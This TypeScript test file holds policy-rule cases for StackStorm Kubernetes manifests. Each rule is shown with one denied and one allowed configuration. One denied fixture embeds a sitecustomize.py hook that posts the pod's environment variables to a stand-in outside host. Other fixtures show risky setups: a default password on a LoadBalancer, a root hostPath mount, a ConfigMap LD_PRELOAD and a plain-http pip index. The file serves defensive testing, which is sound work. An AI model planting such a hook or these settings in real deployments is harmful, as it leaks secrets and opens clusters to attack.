/**
 * rules.test.ts's cases for the tenth red team's edge rules (the overlays are
 * in test/policy/redteam/fresh11-*.ts): ST2-EXP-016, ST2-HRD-023 and
 * ST2-SEC-022..024 (and ST2-SEC-030, the same class's native preloads), each
 * denied and allowed through the compiled wasm.
 */
import type { Manifest } from '../../src/core/manifest.js';
import { configMap, haWorkload, secret, service, workload } from './support.js';
import { deny, rows, type RuleCase } from './rule-case.js';

/** st2auth making its htpasswd from a Secret holding this password, behind a Service of this type. */
function auth(password: string, type: string, annotations: Record<string, string> = {}): Manifest[] {
  const svc = service('st2auth', 'st2auth', type);
  return [
    secret('st2-auth', { stringData: { username: 'st2admin', password } }),
    ...haWorkload('st2auth', 2, { container: { env: [{ name: 'ST2_AUTH_PASSWORD', valueFrom: { secretKeyRef: { name: 'st2-auth', key: 'password' } } }] } }),
    { ...svc, metadata: { ...(svc['metadata'] as Manifest), annotations } },
  ];
}

/** The timers engine: an st2 pod that holds st2's config and runs alone, so nothing else fires. */
const runner = (container: Manifest, pod: Manifest = {}): Manifest[] => [workload('st2timersengine', { container, pod })];
const env = (vars: Record<string, string>): Manifest => ({ env: Object.entries(vars).map(([name, value]) => ({ name, value })) });
/** An st2 pod mounting a ConfigMap of libraries at /opt/preload, with this LD_PRELOAD. */
const preloading = (ldPreload: string): Manifest[] => [
  configMap('runner-preload', { 'libaudit.so': 'ELF' }),
  ...runner({ ...env({ LD_PRELOAD: ldPreload }), volumeMounts: [{ name: 'preload', mountPath: '/opt/preload' }] }, { volumes: [{ name: 'preload', configMap: { name: 'runner-preload' } }] }),
];
const hooks = (text: string): Manifest[] => [
  configMap('runner-hooks', { 'sitecustomize.py': text }),
  ...runner({ ...env({ PYTHONPATH: '/opt/hooks' }), volumeMounts: [{ name: 'hooks', mountPath: '/opt/hooks' }] }, { volumes: [{ name: 'hooks', configMap: { name: 'runner-hooks' } }] }),
];

export function fresh11RuleCases(): RuleCase[] {
  return [
    ...rows('ST2-EXP-016', [
      ['dev', "dev st2auth with the chart's password on an open LoadBalancer is denied", () => auth('Ch@ngeMe', 'LoadBalancer'), deny('ST2-EXP-016', { field: 'spec.type', message: 'component=st2auth' })],
      ['staging', 'st2auth with a generated password on a ClusterIP Service is allowed', () => auth('kX9-generated-Password', 'ClusterIP'), 'allowed'],
    ]),
    ...rows('ST2-HRD-023', [
      ['dev', "a dev runner mounting the node's / is denied", () => [workload('st2actionrunner', { pod: { volumes: [{ name: 'host', hostPath: { path: '/' } }] } })], deny('ST2-HRD-023', { message: 'hostPath /' })],
      ['production', 'an st2 pod with an emptyDir scratch volume is allowed', () => runner({}, { volumes: [{ name: 'scratch', emptyDir: {} }] }), 'allowed'],
    ]),
    ...rows('ST2-SEC-022', [
      ['production', 'an st2 pod behind an outside HTTP_PROXY without NO_PROXY is denied', () => runner(env({ HTTP_PROXY: 'http://proxy.outside-vendor.net:3128' })), deny('ST2-SEC-022', { message: 'host=proxy.outside-vendor.net' })],
      ['production', "an st2 pod behind an outside proxy that NO_PROXY keeps off st2's services is allowed", () => runner(env({ HTTP_PROXY: 'http://proxy.corp.example.net:3128', NO_PROXY: 'st2api,st2auth,st2stream,.svc' })), 'allowed'],
    ]),
    ...rows('ST2-SEC-023', [
      ['production', 'a sitecustomize posting to an outside host is denied', () => hooks("import os, urllib.request\nurllib.request.urlopen('https://telemetry.example.io/v1', data=str(os.environ).encode())\n"), deny('ST2-SEC-023', { message: 'file=/opt/hooks/sitecustomize.py' })],
      ['production', 'a sitecustomize setting log levels is allowed', () => hooks('import logging\nlogging.getLogger("urllib3").setLevel(logging.WARNING)\n'), 'allowed'],
    ]),
    ...rows('ST2-SEC-030', [
      ['production', 'a library from a ConfigMap preloaded into an st2 pod is denied', () => preloading('/opt/preload/libaudit.so'), deny('ST2-SEC-030', { message: 'file=/opt/preload/libaudit.so' })],
      ['production', "jemalloc preloaded from the image beside that ConfigMap is allowed", () => preloading('/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'), 'allowed'],
    ]),
    ...rows('ST2-SEC-024', [
      ['production', "an st2 pod's pip index over plain http is denied", () => runner(env({ PIP_INDEX_URL: 'http://pypi-mirror.example.net/simple' })), deny('ST2-SEC-024', { message: 'problem=plain-http' })],
      ['production', "an st2 pod's pip index replaced by an unlisted https mirror is denied", () => runner(env({ PIP_INDEX_URL: 'https://pypi-mirror.example.net/simple' })), deny('ST2-SEC-024', { message: 'problem=index' })],
      ['production', "an st2 pod's pip index on PyPI itself over https is allowed", () => runner(env({ PIP_INDEX_URL: 'https://pypi.org/simple' })), 'allowed'],
    ]),
  ];
}
